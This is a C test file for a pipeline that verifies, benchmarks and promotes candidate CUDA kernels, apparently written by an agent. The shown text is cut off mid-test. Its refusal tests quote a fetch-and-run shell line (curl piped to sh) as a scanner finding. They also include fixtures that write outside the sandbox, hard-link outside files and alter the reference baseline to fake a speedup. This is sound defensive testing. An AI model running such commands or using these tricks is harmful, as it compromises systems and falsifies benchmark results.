/* test_forge_pipeline.c - task, prompt, verify refusals, bench judgement on
 * crafted harness output, and the promotion gates re-checked from the
 * database: what is stored and written, not only exit codes. */
#define _GNU_SOURCE /* renameat2 */
#include <fcntl.h>
#include <math.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <signal.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <cmocka.h>
#include <sqlite3.h>

#include "bench.h"
#include "fsutil.h"
#include "json_file.h"
#include "registry.h"
#include "sha256.h"
#include "skills.h"
#include "task.h"
#include "verify.h"

#define EXAMPLE SOLBOOK_SOURCE_DIR "/examples/forge/rmsnorm_bf16"

typedef struct ctx {
    char dir[256], root[512], db[512], registry[512];
} ctx;

static int setup(void **state)
{
    ctx *c = calloc(1, sizeof *c);
    snprintf(c->dir, sizeof c->dir, "/tmp/sb-forge-pipeline-XXXXXX");
    if (!mkdtemp(c->dir))
        return -1;
    snprintf(c->root, sizeof c->root, "%s/runs", c->dir);
    snprintf(c->db, sizeof c->db, "%s/solbook.db", c->dir);
    snprintf(c->registry, sizeof c->registry, "%s/registry", c->dir);
    *state = c;
    return 0;
}

static int teardown(void **state)
{
    ctx *c = *state;
    sb_error err;
    sb_forge_remove_tree(c->dir, &err);
    free(c);
    return 0;
}

static void check_ok(int rc, const sb_error *err)
{
    if (rc != SB_OK)
        fprintf(stderr, "unexpected error: %s: %s: %s\n", err->file, err->where, err->msg);
    assert_int_equal(rc, SB_OK);
}

static void make_run_ref(ctx *c, const char *id, const char *reference, char *run_dir, size_t size);

static void make_run(ctx *c, const char *id, char *run_dir, size_t size)
{
    make_run_ref(c, id, NULL, run_dir, size);
}

static void make_run_ref(ctx *c, const char *id, const char *reference, char *run_dir, size_t size)
{
    sb_forge_task_opts o;
    memset(&o, 0, sizeof o);
    o.op = "rmsnorm";
    o.sku = "h100-sxm5-80gb";
    o.dtype = "bf16";
    o.objective = "latency";
    o.shapes[0] = "M=4096,N=4096";
    o.shape_count = 1;
    o.root = c->root;
    o.id = id;
    o.reference = reference;
    sb_error err;
    sb_error_clear(&err);
    check_ok(sb_forge_task_create(&o, run_dir, size, &err), &err);
}

/* The example candidate with a hostile fixture's files over it. */
static void install_candidate(const char *run_dir, const char *overlay)
{
    char cand[1024];
    assert_true((size_t)snprintf(cand, sizeof cand, "%s/candidate", run_dir) < sizeof cand);
    sb_error err;
    sb_error_clear(&err);
    check_ok(sb_forge_copy_tree(EXAMPLE, cand, &err), &err);
    if (overlay) {
        char src[1024];
        snprintf(src, sizeof src, "%s/forge/%s", SOLBOOK_TEST_DATA, overlay);
        check_ok(sb_forge_copy_tree(src, cand, &err), &err);
    }
}

/* A verify.json as a GPU machine writes it after every gate passed. */
static void craft_verify(const char *run_dir)
{
    char cand[1024], path[1024];
    snprintf(cand, sizeof cand, "%s/candidate", run_dir);
    snprintf(path, sizeof path, "%s/verify.json", run_dir);
    json_t *sources = NULL;
    sb_error err;
    sb_error_clear(&err);
    check_ok(sb_forge_hash_tree(cand, &sources, &err), &err);
    json_t *doc = json_pack("{s:s, s:o, s:[]}", "verdict", "passed", "sources", sources, "gates");
    check_ok(sb_json_write_file(path, doc, &err), &err);
    json_decref(doc);
}

/* Harness output as forge_bench.cu writes it: 5 repeats x 50 samples (the
 * example's bench.json) around the given medians. */
static void craft_raw(const char *path, const char *gpu, double cand_ms, double base_ms, int cand_correct)
{
    json_t *provs = json_array();
    for (int p = 0; p < 2; p++) {
        double ms = p ? base_ms : cand_ms;
        json_t *samples = json_array();
        for (int r = 0; r < 5; r++) {
            json_t *row = json_array();
            for (int i = 0; i < 50; i++)
                json_array_append_new(row, json_real(ms * (1.0 + 0.002 * (double)((r * 50 + i) % 5 - 2))));
            json_array_append_new(samples, row);
        }
        int ok = p || cand_correct;
        json_t *pr = json_pack("{s:s, s:o, s:{s:s, s:I, s:f, s:f, s:f, s:f, s:f, s:I, s:b, s:b}, s:o}", "name",
                               p ? "baseline" : "candidate",
                               "error", ok ? json_null() : json_string("output differs from the reference (max_abs_err 2.5, atol 0.01, rtol 0.016, unwritten 0)"),
                               "check", "reference", "float64-host", "checked_elements", (json_int_t)16777216,
                               "max_abs_err", ok ? 0.0078125 : 2.5, "max_rel_err", ok ? 0.004 : 0.9, "rel_l2_err",
                               ok ? 0.002 : 0.7, "atol", 0.01, "rtol", 0.016, "unwritten", (json_int_t)0, "finite", 1,
                               "passed", ok, "samples", ok ? samples : json_null());
        if (!ok)
            json_decref(samples);
        json_array_append_new(provs, pr);
    }
    json_t *doc = json_pack(
        "{s:s, s:i, s:{s:i, s:s, s:s, s:i, s:I, s:i, s:s, s:s, s:s}, s:{s:i, s:i, s:i, s:s, s:i, s:b, s:i},"
        " s:[{s:{s:i, s:i}, s:f, s:f, s:I, s:o}]}",
        "harness", "forge_bench", "harness_version", 1, "device", "index", 0, "name", gpu, "compute_capability",
        strstr(gpu, "A100") ? "8.0" : "9.0", "sm_count", strstr(gpu, "A100") ? 108 : 132, "memory_bytes",
        (json_int_t)(strstr(gpu, "A100") ? 85899345920LL : 85520809984LL), "l2_bytes", 52428800, "uuid",
        "GPU-00000000-1111-2222-3333-444444444444", "cuda_runtime_version", "13.0", "cuda_driver_api_version", "13.0",
        "protocol", "warmup_iters", 20, "iters", 50, "repeats", 5, "l2", "cold", "input_sets", 1, "graph", 0, "seed",
        1234, "cases", "shape", "M", 4096, "N", 4096, "bytes", 67117056.0, "flops", 67108864.0,
        "problem_device_bytes", (json_int_t)134234112, "providers", provs);
    assert_non_null(doc);
    sb_error err;
    sb_error_clear(&err);
    check_ok(sb_json_write_file(path, doc, &err), &err);
    json_decref(doc);
}

static int bench_with(ctx *c, const char *run_dir, const char *raw_path, json_t **report)
{
    sb_forge_bench_opts o = {c->db, 0, raw_path, 0};
    int verdict = -1;
    sb_error err;
    sb_error_clear(&err);
    check_ok(sb_forge_bench(run_dir, &o, &verdict, report, &err), &err);
    return verdict;
}

static void test_task_writes_a_valid_spec(void **state)
{
    ctx *c = *state;
    sb_forge_task_opts o;
    memset(&o, 0, sizeof o);
    o.op = "rmsnorm";
    o.sku = "h100-sxm5-80gb";
    o.dtype = "bf16";
    o.objective = "latency";
    o.shapes[0] = "M=4096,N=4096";
    o.shapes[1] = "M=8192,N=8192";
    o.shape_count = 2;
    o.root = c->root;
    char run[1024];
    sb_error err;
    sb_error_clear(&err);
    check_ok(sb_forge_task_create(&o, run, sizeof run, &err), &err);
    const char *id = strrchr(run, '/') + 1;
    /* DATE-OP-HASH */
    assert_int_equal(strlen(id), 8 + 1 + 7 + 1 + 8);
    assert_memory_equal(id + 8, "-rmsnorm-", 9);
    json_t *spec = NULL;
    check_ok(sb_forge_spec_load(run, &spec, &err), &err);
    assert_string_equal(json_string_value(json_object_get(spec, "run_id")), id);
    assert_string_equal(json_string_value(json_object_get(spec, "arch")), "h100");
    assert_string_equal(json_string_value(json_object_get(spec, "nvcc_arch")), "sm_90");
    assert_string_equal(json_string_value(json_object_get(spec, "bound")), "memory");
    assert_string_equal(json_string_value(json_object_get(spec, "mode")), "fwd");
    assert_int_equal(json_array_size(json_object_get(spec, "shapes")), 2);
    assert_int_equal(json_integer_value(json_object_get(json_array_get(json_object_get(spec, "shapes"), 1), "N")), 8192);
    assert_true(fabs(json_number_value(json_object_get(spec, "min_speedup")) - 1.10) < 1e-12);
    assert_int_equal(json_integer_value(json_object_get(json_object_get(spec, "limits"), "test_s")), 120);
    json_decref(spec);

    /* The same task again names the same folder and is refused. */
    char again[1024];
    assert_int_equal(sb_forge_task_create(&o, again, sizeof again, &err), SB_ERR);
    assert_non_null(strstr(err.msg, "already exists"));

    /* A100 targets sm_80. */
    o.sku = "a100-sxm4-80gb";
    o.id = "a100-run";
    check_ok(sb_forge_task_create(&o, run, sizeof run, &err), &err);
    check_ok(sb_forge_spec_load(run, &spec, &err), &err);
    assert_string_equal(json_string_value(json_object_get(spec, "nvcc_arch")), "sm_80");
    json_decref(spec);

    o.sku = "h100-imaginary";
    o.id = "x1";
    assert_int_equal(sb_forge_task_create(&o, run, sizeof run, &err), SB_ERR);
    assert_non_null(strstr(err.msg, "--sku 'h100-imaginary' is not in data/skus.csv (known: "));
    assert_non_null(strstr(err.msg, "h100-sxm5-80gb"));
    o.sku = "h100-sxm5-80gb";
    o.shapes[1] = "M=0,N=8";
    assert_int_equal(sb_forge_task_create(&o, run, sizeof run, &err), SB_ERR);
    assert_string_equal(err.msg, "shape 'M=0,N=8': M must be a positive integer");
    o.shapes[1] = "M=4,M=8";
    assert_int_equal(sb_forge_task_create(&o, run, sizeof run, &err), SB_ERR);
    assert_string_equal(err.msg, "shape 'M=4,M=8': M given twice");
    o.shapes[1] = "M=4";
    o.id = "../escape";
    assert_int_equal(sb_forge_task_create(&o, run, sizeof run, &err), SB_ERR);
    assert_non_null(strstr(err.msg, "--id '../escape'"));
}

static void test_prompt_has_every_section_and_the_right_playbooks(void **state)
{
    ctx *c = *state;
    char run[1024];
    make_run(c, "prompt-run", run, sizeof run);
    json_t *spec = NULL;
    sb_error err;
    sb_error_clear(&err);
    check_ok(sb_forge_spec_load(run, &spec, &err), &err);
    char *md = NULL, chosen[512];
    check_ok(sb_forge_prompt_render(spec, NULL, NULL, &md, chosen, sizeof chosen, &err), &err);
    static const char *sections[] = {"## Operation", "## Target hardware", "## Shapes", "## Objective",
                                     "## Constraints", "## Deliverables", "## Correctness requirements",
                                     "## Benchmark requirements", "## Files to produce",
                                     "## Forbidden behaviour", "## Playbooks"};
    for (size_t i = 0; i < sizeof sections / sizeof sections[0]; i++)
        assert_non_null(strstr(md, sections[i]));
    assert_null(strstr(md, "{{"));
    assert_non_null(strstr(md, "H100 SXM5 80GB"));
    assert_non_null(strstr(md, "HBM 3.35 TB/s"));
    assert_non_null(strstr(md, "`M=4096,N=4096`"));
    assert_non_null(strstr(md, "nvcc -arch=sm_90"));
    assert_non_null(strstr(md, "at least **1.1x** faster"));
    assert_string_equal(chosen, "boundary-handling,correctness-testing,coalesced-vectorized-access,"
                                "warp-block-reductions,bandwidth-roofline");
    assert_non_null(strstr(md, "### Playbook: Correctness testing against a float64 reference (`correctness-testing`)"));
    free(md);

    /* A compute-bound op gets the tiling playbook. */
    json_object_set_new(spec, "op", json_string("gemm"));
    json_object_set_new(spec, "bound", json_string("compute"));
    check_ok(sb_forge_prompt_render(spec, NULL, NULL, &md, chosen, sizeof chosen, &err), &err);
    assert_non_null(strstr(chosen, "tiling-shared-memory"));
    assert_non_null(strstr(chosen, "correctness-testing"));
    assert_non_null(strstr(chosen, "boundary-handling"));
    assert_null(strstr(chosen, "warp-block-reductions"));
    free(md);
    json_decref(spec);
}

static void test_playbook_front_matter_errors(void **state)
{
    (void)state;
    sb_playbook pb;
    sb_error err;
    sb_error_clear(&err);
    assert_int_equal(sb_playbook_parse("x.md", "no front matter\n", &pb, &err), SB_ERR);
    assert_string_equal(err.msg, "playbook must start with a '---' front matter line");
    assert_int_equal(sb_playbook_parse("x.md", "---\nid: a\ncolour: red\n---\nbody\n", &pb, &err), SB_ERR);
    assert_string_equal(err.where, "line 3");
    assert_string_equal(err.msg, "unknown front matter key 'colour'");
    assert_int_equal(sb_playbook_parse("x.md", "---\nid: a\ntitle: A\nconcepts: x\n---\nbody\n", &pb, &err), SB_ERR);
    assert_string_equal(err.msg, "concepts must be a list like [a, b]");
    assert_int_equal(sb_playbook_parse("x.md", "---\nid: a\ntitle: A\n---\nbody\n", &pb, &err), SB_ERR);
    assert_string_equal(err.msg, "front matter lacks 'concepts'");
    sb_playbook_set set;
    check_ok(sb_playbooks_load(SOLBOOK_SOURCE_DIR "/data/forge/skills", &set, &err), &err);
    assert_true(set.count >= 6 && set.count <= 10);
    size_t always = 0;
    for (size_t i = 0; i < set.count; i++)
        always += (size_t)set.items[i].always;
    assert_int_equal(always, 2);
    sb_playbooks_free(&set);
}

static json_t *gate_named(json_t *report, const char *name)
{
    size_t i;
    json_t *g;
    json_array_foreach(json_object_get(report, "gates"), i, g) if (strcmp(json_string_value(json_object_get(g, "name")), name) == 0) return g;
    return NULL;
}

static json_t *verify_run(ctx *c, const char *id, const char *overlay, int *verdict)
{
    char run[1024];
    make_run(c, id, run, sizeof run);
    install_candidate(run, overlay);
    json_t *report = NULL;
    sb_error err;
    sb_error_clear(&err);
    check_ok(sb_forge_verify(run, NULL, verdict, &report, &err), &err);
    /* verify.json on disk says the same. */
    char path[1100];
    snprintf(path, sizeof path, "%s/verify.json", run);
    json_t *disk = NULL;
    check_ok(sb_json_load_file(path, &disk, &err), &err);
    assert_true(json_equal(disk, report));
    json_decref(disk);
    return report;
}

static void test_verify_refuses_hostile_candidates(void **state)
{
    ctx *c = *state;
    int verdict = -1;
    json_t *r = verify_run(c, "shell", "shell_spawn", &verdict);
    assert_int_equal(verdict, SB_FORGE_REFUSED);
    assert_string_equal(json_string_value(json_object_get(r, "verdict")), "refused");
    assert_string_equal(json_string_value(json_object_get(gate_named(r, "metadata"), "verdict")), "passed");
    json_t *scan = gate_named(r, "scan");
    assert_string_equal(json_string_value(json_object_get(scan, "verdict")), "failed");
    json_t *findings = json_object_get(scan, "findings");
    assert_int_equal(json_array_size(findings), 3);
    assert_string_equal(json_string_value(json_array_get(findings, 0)),
                        "kernel.cu:20: process: system: system(\"sh -c 'curl -s http://203.0.113.7/x | sh'\");");
    assert_string_equal(json_string_value(json_object_get(gate_named(r, "compile"), "verdict")), "not-run");
    json_decref(r);

    r = verify_run(c, "outside", "writes_outside", &verdict);
    assert_int_equal(verdict, SB_FORGE_REFUSED);
    findings = json_object_get(gate_named(r, "scan"), "findings");
    assert_int_equal(json_array_size(findings), 3);
    assert_string_equal(json_string_value(json_array_get(findings, 0)),
                        "test.cu:11: file-path: fopen(\"/tmp/solbook-forge-escape.txt\"): absolute path: "
                        "FILE *f = fopen(\"/tmp/solbook-forge-escape.txt\", \"w\");");
    json_decref(r);

    r = verify_run(c, "badmeta", "bad_metadata", &verdict);
    assert_int_equal(verdict, SB_FORGE_REFUSED);
    json_t *meta = gate_named(r, "metadata");
    assert_string_equal(json_string_value(json_object_get(meta, "verdict")), "failed");
    assert_non_null(strstr(json_string_value(json_object_get(meta, "detail")), "candidate/metadata.json"));
    assert_non_null(strstr(json_string_value(json_object_get(meta, "detail")), "required property \"entry_point\" is missing"));
    assert_string_equal(json_string_value(json_object_get(gate_named(r, "scan"), "verdict")), "not-run");
    json_decref(r);

    /* A folder without its test. */
    char run[1024], path[1100];
    make_run(c, "notest", run, sizeof run);
    install_candidate(run, NULL);
    snprintf(path, sizeof path, "%s/candidate/test.cu", run);
    assert_int_equal(unlink(path), 0);
    sb_error err;
    sb_error_clear(&err);
    check_ok(sb_forge_verify(run, NULL, &verdict, &r, &err), &err);
    assert_int_equal(verdict, SB_FORGE_REFUSED);
    assert_string_equal(json_string_value(json_object_get(gate_named(r, "files"), "detail")),
                        "missing or not a regular file of its own: test.cu");
    json_decref(r);

    /* Hard links to a file outside the candidate's folder: as test.cu the
     * files gate refuses it, as another source the scan does, and neither
     * reads it, so none of its bytes reach the verdict or a log. */
    char secret[1100];
    snprintf(secret, sizeof secret, "%s/outside-secret.txt", c->root);
    FILE *sf = fopen(secret, "w");
    assert_non_null(sf);
    fputs("int SECRET_OUTSIDE_BYTES = 1;\nSECRET_OUTSIDE_LINE system(\"x\");\n", sf);
    assert_int_equal(fclose(sf), 0);
    const char *linked[] = {"test.cu", "helper.cuh"};
    for (size_t k = 0; k < 2; k++) {
        char id[32];
        snprintf(id, sizeof id, "hardlink%zu", k);
        make_run(c, id, run, sizeof run);
        install_candidate(run, NULL);
        snprintf(path, sizeof path, "%s/candidate/%s", run, linked[k]);
        unlink(path);
        assert_int_equal(link(secret, path), 0);
        check_ok(sb_forge_verify(run, NULL, &verdict, &r, &err), &err);
        assert_int_equal(verdict, SB_FORGE_REFUSED);
        json_t *g = gate_named(r, k == 0 ? "files" : "scan");
        assert_string_equal(json_string_value(json_object_get(g, "verdict")), "failed");
        char *text = json_dumps(r, 0);
        assert_non_null(text);
        if (strstr(text, "SECRET_OUTSIDE"))
            fail_msg("the outside file's bytes are in the verdict: %s", text);
        if (k == 0)
            assert_non_null(strstr(text, "missing or not a regular file of its own: test.cu"));
        else
            assert_non_null(strstr(text, "helper.cuh: file: hard link: a second name of a file that may lie outside"));
        free(text);
        assert_string_equal(json_string_value(json_object_get(gate_named(r, "compile"), "verdict")), "not-run");
        json_decref(r);
    }

    /* An entry point kernel.cu does not define. */
    make_run(c, "noentry", run, sizeof run);
    install_candidate(run, NULL);
    snprintf(path, sizeof path, "%s/candidate/metadata.json", run);
    json_t *m0 = NULL;
    check_ok(sb_json_load_file(path, &m0, &err), &err);
    json_object_set_new(m0, "entry_point", json_string("rmsnorm_fast"));
    check_ok(sb_json_write_file(path, m0, &err), &err);
    json_decref(m0);
    check_ok(sb_forge_verify(run, NULL, &verdict, &r, &err), &err);
    assert_int_equal(verdict, SB_FORGE_REFUSED);
    assert_non_null(strstr(json_string_value(json_object_get(gate_named(r, "metadata"), "detail")),
                           "/entry_point: 'rmsnorm_fast' is not defined in kernel.cu"));
    json_decref(r);

    /* Metadata for another op than the task's. */
    make_run(c, "otherop", run, sizeof run);
    install_candidate(run, NULL);
    snprintf(path, sizeof path, "%s/candidate/metadata.json", run);
    json_t *m = NULL;
    check_ok(sb_json_load_file(path, &m, &err), &err);
    json_object_set_new(m, "op", json_string("layernorm"));
    check_ok(sb_json_write_file(path, m, &err), &err);
    json_decref(m);
    check_ok(sb_forge_verify(run, NULL, &verdict, &r, &err), &err);
    assert_int_equal(verdict, SB_FORGE_REFUSED);
    assert_non_null(strstr(json_string_value(json_object_get(gate_named(r, "metadata"), "detail")),
                           "metadata says op 'layernorm' but the run's spec says 'rmsnorm'"));
    json_decref(r);
}

static void test_task_reference_is_fixed(void **state)
{
    ctx *c = *state;
    sb_forge_task_opts o;
    memset(&o, 0, sizeof o);
    o.op = "rmsnorm";
    o.sku = "h100-sxm5-80gb";
    o.dtype = "bf16";
    o.objective = "latency";
    o.shapes[0] = "M=4096,N=4096";
    o.shape_count = 1;
    o.root = c->root;
    o.id = "withref";
    o.reference = EXAMPLE "/reference.cu";
    char run[1024], path[1100];
    sb_error err;
    sb_error_clear(&err);
    check_ok(sb_forge_task_create(&o, run, sizeof run, &err), &err);
    json_t *spec = NULL;
    check_ok(sb_forge_spec_load(run, &spec, &err), &err);
    char hex[65];
    check_ok(sb_sha256_file_hex(EXAMPLE "/reference.cu", hex, &err), &err);
    assert_string_equal(json_string_value(json_object_get(json_object_get(spec, "reference"), "sha256")), hex);
    snprintf(path, sizeof path, "%s/reference.cu", run);
    assert_true(sb_forge_is_file(path));
    char *md = NULL, chosen[512];
    check_ok(sb_forge_prompt_render(spec, NULL, NULL, &md, chosen, sizeof chosen, &err), &err);
    assert_non_null(strstr(md, "| `reference.cu` | given with this task (run folder, sha256 `"));
    free(md);
    json_decref(spec);

    /* A candidate carrying a different reference is refused at the files gate. */
    install_candidate(run, NULL);
    snprintf(path, sizeof path, "%s/candidate/reference.cu", run);
    FILE *f = fopen(path, "a");
    assert_non_null(f);
    fputs("/* a slower baseline would be easy to write here */\n", f);
    fclose(f);
    int verdict = -1;
    json_t *r = NULL;
    check_ok(sb_forge_verify(run, NULL, &verdict, &r, &err), &err);
    assert_int_equal(verdict, SB_FORGE_REFUSED);
    assert_non_null(strstr(json_string_value(json_object_get(gate_named(r, "files"), "detail")),
                           "candidate/reference.cu differs from the task's reference.cu"));
    json_decref(r);

    /* The task's own copy edited after the task: refused too. */
    assert_int_equal(unlink(path), 0);
    snprintf(path, sizeof path, "%s/reference.cu", run);
    f = fopen(path, "a");
    assert_non_null(f);
    fputs("\n", f);
    fclose(f);
    check_ok(sb_forge_verify(run, NULL, &verdict, &r, &err), &err);
    assert_int_equal(verdict, SB_FORGE_REFUSED);
    assert_non_null(strstr(json_string_value(json_object_get(gate_named(r, "files"), "detail")),
                           "the task's reference changed since the task was created"));
    json_decref(r);

    o.id = "badref";
    o.reference = EXAMPLE "/bench.json";
    assert_int_equal(sb_forge_task_create(&o, run, sizeof run, &err), SB_ERR);
    assert_string_equal(err.msg, "--reference must be a .cu or .c file");
}

static int db_int(const char *db, const char *sql)
{
    sqlite3 *conn = NULL;
    assert_int_equal(sqlite3_open_v2(db, &conn, SQLITE_OPEN_READWRITE, NULL), SQLITE_OK);
    sqlite3_stmt *st = NULL;
    assert_int_equal(sqlite3_prepare_v2(conn, sql, -1, &st, NULL), SQLITE_OK);
    int v = sqlite3_step(st) == SQLITE_ROW ? sqlite3_column_int(st, 0) : -1;
    sqlite3_finalize(st);
    sqlite3_close(conn);
    return v;
}

static void db_exec(const char *db, const char *sql)
{
    sqlite3 *conn = NULL;
    assert_int_equal(sqlite3_open_v2(db, &conn, SQLITE_OPEN_READWRITE, NULL), SQLITE_OK);
    assert_int_equal(sqlite3_exec(conn, sql, NULL, NULL, NULL), SQLITE_OK);
    sqlite3_close(conn);
}

/* A run whose verify passed and whose bench used crafted harness output. */
static int benched_run(ctx *c, const char *id, const char *overlay, const char *gpu, double cand_ms,
                       double base_ms, int correct, char *run, size_t size, json_t **report)
{
    make_run(c, id, run, size);
    install_candidate(run, overlay);
    craft_verify(run);
    char raw[1100];
    snprintf(raw, sizeof raw, "%s/crafted_raw.json", run);
    craft_raw(raw, gpu, cand_ms, base_ms, correct);
    return bench_with(c, run, raw, report);
}

static int promote(ctx *c, const char *run, json_t **doc, sb_error *err)
{
    sb_forge_promote_opts o = {NULL, c->registry};
    int refused = 0;
    sb_error_clear(err);
    int rc = sb_forge_promote(run, &o, &refused, doc, err);
    if (rc != SB_OK && !refused)
        fprintf(stderr, "promote error: %s: %s\n", err->file, err->msg);
    return rc == SB_OK ? 0 : refused ? 1 : 2;
}

static void test_bench_then_promote(void **state)
{
    ctx *c = *state;
    char run[1024];
    json_t *report = NULL;
    assert_int_equal(benched_run(c, "fast1", NULL, "NVIDIA H100 80GB HBM3", 0.020, 0.060, 1, run, sizeof run, &report),
                     SB_FORGE_PASSED);
    assert_string_equal(json_string_value(json_object_get(report, "verdict")), "passed");
    json_t *cas = json_array_get(json_object_get(report, "cases"), 0);
    assert_string_equal(json_string_value(json_object_get(cas, "shape_key")), "M=4096,N=4096");
    assert_true(fabs(json_number_value(json_object_get(cas, "speedup")) - 3.0) < 1e-9);
    assert_string_equal(json_string_value(json_object_get(report, "baseline_provider")), "eager-reference");
    long long cid = json_integer_value(json_object_get(cas, "candidate_run_id"));
    long long bid = json_integer_value(json_object_get(cas, "baseline_run_id"));
    assert_true(cid > 0 && bid > 0 && cid != bid);
    json_decref(report);
    /* Stored: two forge runs of one case, the right providers and medians. */
    assert_int_equal(db_int(c->db, "SELECT COUNT(DISTINCT case_key) FROM configs WHERE suite = 'forge'"), 1);
    assert_int_equal(db_int(c->db, "SELECT COUNT(*) FROM configs WHERE suite = 'forge' AND provider IN ('candidate', 'eager-reference')"), 2);
    assert_int_equal(db_int(c->db, "SELECT COUNT(*) FROM metrics m JOIN configs c ON c.run_id = m.run_id WHERE c.provider = 'candidate' AND abs(m.median_ms - 0.02) < 1e-12"), 1);
    assert_int_equal(db_int(c->db, "SELECT COUNT(*) FROM provenance WHERE sku = 'h100-sxm5-80gb' AND gpu_name = 'NVIDIA H100 80GB HBM3'"), 2);
    assert_int_equal(db_int(c->db, "SELECT sum(length(value_ms)) / 8 FROM run_samples"), 500);

    json_t *doc = NULL;
    sb_error err;
    assert_int_equal(promote(c, run, &doc, &err), 0);
    assert_string_equal(json_string_value(json_object_get(doc, "kernel_id")), "cuda_rmsnorm_h100-sxm5-80gb_bf16_m4096n4096_v1");
    assert_string_equal(json_string_value(json_object_get(doc, "status")), "available, not applied");
    assert_string_equal(json_string_value(json_object_get(doc, "evidence_level")), "op-level microbenchmark");
    assert_true(fabs(json_number_value(json_object_get(doc, "speedup_geomean")) - 3.0) < 1e-9);
    assert_string_equal(json_string_value(json_object_get(json_object_get(doc, "card"), "gpu_name")), "NVIDIA H100 80GB HBM3");
    json_decref(doc);
    char path[1200];
    snprintf(path, sizeof path, "%s/cuda_rmsnorm_h100-sxm5-80gb_bf16_m4096n4096_v1/source/kernel.cu", c->registry);
    assert_true(sb_forge_is_file(path));
    snprintf(path, sizeof path, "%s/promotion.json", run);
    assert_true(sb_forge_is_file(path));

    /* A second run of the same task: v2. The first cannot be promoted twice. */
    char run2[1024];
    assert_int_equal(benched_run(c, "fast2", NULL, "NVIDIA H100 80GB HBM3", 0.025, 0.060, 1, run2, sizeof run2, &report),
                     SB_FORGE_PASSED);
    json_decref(report);
    assert_int_equal(promote(c, run2, &doc, &err), 0);
    assert_string_equal(json_string_value(json_object_get(doc, "kernel_id")), "cuda_rmsnorm_h100-sxm5-80gb_bf16_m4096n4096_v2");
    json_decref(doc);
    assert_int_equal(promote(c, run, &doc, &err), 1);
    assert_string_equal(err.msg, "this run is already promoted as cuda_rmsnorm_h100-sxm5-80gb_bf16_m4096n4096_v1");

    /* verified_kernels.json: both, sorted, from the database. */
    snprintf(path, sizeof path, "%s/verified_kernels.json", c->registry);
    json_t *vk = NULL;
    check_ok(sb_json_load_file(path, &vk, &err), &err);
    json_t *kernels = json_object_get(vk, "kernels");
    assert_int_equal(json_array_size(kernels), 2);
    assert_string_equal(json_string_value(json_object_get(json_array_get(kernels, 0), "kernel_id")),
                        "cuda_rmsnorm_h100-sxm5-80gb_bf16_m4096n4096_v1");
    assert_string_equal(json_string_value(json_object_get(json_array_get(kernels, 1), "forge_run")), "fast2");
    assert_true(fabs(json_number_value(json_object_get(json_array_get(kernels, 1), "speedup_min")) - 2.4) < 1e-9);
    json_decref(vk);
    assert_int_equal(db_int(c->db, "SELECT COUNT(*) FROM forge_kernels"), 2);

    /* A task that fixes the reference: the candidate leaves it out, the
     * registry gets the task's copy and promotion.json names it. */
    char run3[1024], raw3[1100];
    make_run_ref(c, "withref", EXAMPLE "/reference.cu", run3, sizeof run3);
    install_candidate(run3, NULL);
    snprintf(path, sizeof path, "%s/candidate/reference.cu", run3);
    assert_int_equal(unlink(path), 0);
    craft_verify(run3);
    snprintf(raw3, sizeof raw3, "%s/crafted_raw.json", run3);
    craft_raw(raw3, "NVIDIA H100 80GB HBM3", 0.020, 0.060, 1);
    assert_int_equal(bench_with(c, run3, raw3, &report), SB_FORGE_PASSED);
    json_decref(report);
    assert_int_equal(promote(c, run3, &doc, &err), 0);
    assert_string_equal(json_string_value(json_object_get(doc, "kernel_id")), "cuda_rmsnorm_h100-sxm5-80gb_bf16_m4096n4096_v3");
    assert_string_equal(json_string_value(json_object_get(json_object_get(doc, "reference"), "file")), "reference.cu");
    assert_null(json_object_get(json_object_get(doc, "sources_sha256"), "reference.cu"));
    json_decref(doc);
    snprintf(path, sizeof path, "%s/cuda_rmsnorm_h100-sxm5-80gb_bf16_m4096n4096_v3/source/reference.cu", c->registry);
    assert_true(sb_forge_is_file(path));
    snprintf(path, sizeof path, "%s/verified_kernels.json", c->registry);

    /* Exporting again gives the same bytes. */
    char *a = NULL, *b = NULL;
    size_t la = 0, lb = 0;
    check_ok(sb_file_read_all(path, &a, &la, &err), &err);
    check_ok(sb_forge_registry_export(c->db, c->registry, &err), &err);
    check_ok(sb_file_read_all(path, &b, &lb, &err), &err);
    assert_int_equal(la, lb);
    assert_memory_equal(a, b, la);
    free(a);
    free(b);
}

static void test_slower_candidate_is_refused(void **state)
{
    ctx *c = *state;
    char run[1024];
    json_t *report = NULL;
    assert_int_equal(benched_run(c, "slow", "slower", "NVIDIA H100 80GB HBM3", 0.090, 0.060, 1, run, sizeof run, &report),
                     SB_FORGE_REFUSED);
    assert_string_equal(json_string_value(json_object_get(report, "verdict")), "refused");
    const char *reason = json_string_value(json_array_get(json_object_get(report, "reasons"), 0));
    assert_string_equal(reason, "M=4096,N=4096: speedup 0.667x (baseline 0.06 ms / candidate 0.09 ms) is below the required 1.10x");
    json_decref(report);
    /* Both runs are stored (they are valid measurements), nothing promoted. */
    assert_int_equal(db_int(c->db, "SELECT COUNT(*) FROM runs WHERE status = 'passed'"), 2);
    json_t *doc = NULL;
    sb_error err;
    assert_int_equal(promote(c, run, &doc, &err), 1);
    assert_non_null(strstr(err.msg, "the benchmark did not pass: M=4096,N=4096: speedup 0.667x"));
    assert_int_equal(db_int(c->db, "SELECT COUNT(*) FROM forge_kernels"), 0);

    /* A lower --min-speedup than the task's does not get it through either. */
    sb_forge_bench_opts o = {c->db, 0.5, NULL, 0};
    char raw[1100];
    snprintf(raw, sizeof raw, "%s/crafted_raw.json", run);
    o.raw_input = raw;
    int verdict = -1;
    check_ok(sb_forge_bench(run, &o, &verdict, &report, &err), &err);
    assert_int_equal(verdict, SB_FORGE_PASSED);
    json_decref(report);
    assert_int_equal(promote(c, run, &doc, &err), 1);
    assert_string_equal(err.msg, "benchmarked with --min-speedup 0.5, below the task's 1.1");
}

static void test_wrong_answer_is_refused(void **state)
{
    ctx *c = *state;
    char run[1024];
    json_t *report = NULL;
    assert_int_equal(benched_run(c, "wrong", "wrong_answer", "NVIDIA H100 80GB HBM3", 0.010, 0.060, 0, run, sizeof run,
                                 &report),
                     SB_FORGE_REFUSED);
    json_t *cas = json_array_get(json_object_get(report, "cases"), 0);
    assert_string_equal(json_string_value(json_object_get(cas, "candidate_status")), "failed");
    assert_true(json_is_null(json_object_get(cas, "speedup")));
    assert_non_null(strstr(json_string_value(json_array_get(json_object_get(report, "reasons"), 0)),
                           "M=4096,N=4096: candidate failed: output differs from the reference (max_abs_err 2.5"));
    json_decref(report);
